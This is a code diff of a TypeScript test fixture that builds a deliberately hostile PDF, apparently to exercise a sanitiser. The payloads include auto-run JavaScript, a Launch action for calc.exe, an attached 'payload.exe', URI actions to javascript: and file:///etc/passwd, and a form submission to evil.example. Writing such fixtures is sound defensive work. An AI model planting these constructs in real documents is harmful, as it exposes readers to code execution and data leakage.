@@ -1,10 +1,9 @@
 import {
   PDFDocument,
-  PDFName,
-  PDFString,
+  PDFObjectParser,
   StandardFonts,
   type EncryptionAlgorithm,
-  type PDFObject,
+  type PDFDict,
 } from "@cantoo/pdf-lib";
 import { packed } from "./packed.ts";
 
@@ -47,43 +46,39 @@ export async function filledForm(name: string): Promise<PDFDocument> {
 export async function hostilePdf(): Promise<Uint8Array> {
   const document = await filledForm("Amy Adams");
   const { context, catalog } = document;
-  const text = (value: string) => PDFString.of(value);
-  const uri = (address: string) => ({ S: "URI", URI: text(address) });
   const streamOf = (content: string) =>
     context.register(context.stream(content));
   document.setAuthor("Secret Author");
   await document.attach(Buffer.from("attached"), "payload.exe");
   document.addJavaScript("names", "app.alert('names')");
-  const script = { S: "JavaScript", JS: text("app.alert('open')") };
-  catalog.set(PDFName.of("OpenAction"), context.obj(script));
-  catalog.set(PDFName.of("AA"), context.obj({ WC: script }));
-  catalog.set(PDFName.of("URI"), context.obj({ Base: text("http://base/") }));
-  const form = catalog.getAcroForm()?.dict;
-  form?.set(PDFName.of("XFA"), streamOf("<xdp:xdp/>"));
-
-  const page = document.getPage(0).node;
+  const script = "<< /S /JavaScript /JS (app.alert('open')) >>";
   const about = streamOf("<x:xmpmeta>Secret</x:xmpmeta>");
-  page.set(PDFName.of("AA"), context.obj({ O: script }));
-  page.set(PDFName.of("Metadata"), about);
-  const next = { S: "Named", N: "NextPage" };
-  const file = { Type: "Filespec", F: text("a.exe"), EF: { F: about } };
-  const media = { Assets: { Names: [] } };
-  const alert = { S: "Rendition", JS: text("app.alert(2)") };
+  const page = document.getPage(0).node;
+  for (const [dict, entries] of [
+    [catalog, `/OpenAction ${script} /AA << /WC ${script} >>`],
+    [catalog, "/URI << /Base (http://base/) >>"],
+    [catalog.getAcroForm()?.dict, `/XFA ${streamOf("<xdp:xdp/>")}`],
+    [page, `/AA << /O ${script} >> /Metadata ${about}`],
+  ] as const) {
+    for (const [key, value] of dictOf(document, entries).entries()) {
+      dict?.set(key, value);
+    }
+  }
   for (const entries of [
-    { A: { ...uri("https://college.example/"), Next: next } },
-    { A: uri("mailto:office@college.example") },
-    { A: uri("javascript:alert(1)") },
-    { A: uri("file:///etc/passwd") },
-    { A: { S: "Launch", F: text("calc.exe") } },
-    { A: { S: "GoToR", F: text("other.pdf") } },
-    { A: { S: "SubmitForm", F: text("http://evil.example/") } },
-    { A: { S: "Named", N: "Print" } },
-    { A: { S: "GoTo", D: text("x"), Next: script } },
-    { Subtype: "Sound", Sound: {} },
-    { A: script, PA: uri("http://previous.example/") },
-    { Subtype: "RichMedia", RichMediaContent: context.obj(media) },
-    { Subtype: "FileAttachment", FS: file },
-    { Subtype: "Screen", A: alert },
+    "/A << /S /URI /URI (https://college.example/) /Next << /S /Named /N /NextPage >> >>",
+    "/A << /S /URI /URI (mailto:office@college.example) >>",
+    "/A << /S /URI /URI (javascript:alert\\(1\\)) >>",
+    "/A << /S /URI /URI (file:///etc/passwd) >>",
+    "/A << /S /Launch /F (calc.exe) >>",
+    "/A << /S /GoToR /F (other.pdf) >>",
+    "/A << /S /SubmitForm /F (http://evil.example/) >>",
+    "/A << /S /Named /N /Print >>",
+    `/A << /S /GoTo /D (x) /Next ${script} >>`,
+    "/Subtype /Sound /Sound << >>",
+    `/A ${script} /PA << /S /URI /URI (http://previous.example/) >>`,
+    "/Subtype /RichMedia /RichMediaContent << /Assets << /Names [] >> >>",
+    `/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) /EF << /F ${about} >> >>`,
+    "/Subtype /Screen /A << /S /Rendition /JS (app.alert\\(2\\)) >>",
   ]) {
     annotate(document, entries);
   }
@@ -91,14 +86,18 @@ export async function hostilePdf(): Promise<Uint8Array> {
   return document.save({ updateFieldAppearances: false });
 }
 
-/** Adds an annotation to the first page: a link, unless its entries say otherwise. */
-function annotate(document: PDFDocument, entries: Record<string, unknown>) {
-  const annotation = document.context.obj({
-    Type: "Annot",
-    Subtype: "Link",
-    Rect: [72, 400, 200, 420],
-    ...(entries as Record<string, PDFObject>),
-  });
+/** Returns a dictionary of these entries, as a PDF writes them. */
+function dictOf({ context }: PDFDocument, entries: string) {
+  const written = Buffer.from(`<< ${entries} >>`);
+  return PDFObjectParser.forBytes(written, context).parseObject() as PDFDict;
+}
+
+/** Adds an annotation to the first page: a link, unless its entries, as a PDF writes them, say otherwise. */
+function annotate(document: PDFDocument, entries: string) {
+  const annotation = dictOf(
+    document,
+    `/Type /Annot /Subtype /Link /Rect [72 400 200 420] ${entries}`,
+  );
   document.getPage(0).node.addAnnot(document.context.register(annotation));
 }
 
@@ -124,7 +123,7 @@ export async function pdfThat(
   content: string,
   change: (
     document: PDFDocument,
-    annotate: (entries: Record<string, unknown>) => void,
+    annotate: (entries: string) => void,
   ) => Promise<void> | void,
 ): Promise<Uint8Array> {
   const document = await documentWith(content);
@@ -245,11 +244,11 @@ export async function linkedPdf(): Promise<Uint8Array> {
   const document = await documentWith("Contents", "Chapter");
   const [first, second] = document.getPages();
   for (const link of [
-    { Dest: [second?.ref, "Fit"] },
-    { A: { S: "GoTo", D: [second?.ref, "Fit"] } },
-    { A: { S: "URI", URI: PDFString.of("https://college.example/") } },
+    `/Dest [${second?.ref} /Fit]`,
+    `/A << /S /GoTo /D [${second?.ref} /Fit] >>`,
+    "/A << /S /URI /URI (https://college.example/) >>",
   ]) {
-    annotate(document, { ...link, P: first?.ref, StructParent: 0 });
+    annotate(document, `${link} /P ${first?.ref} /StructParent 0`);
   }
   return document.save();
 }
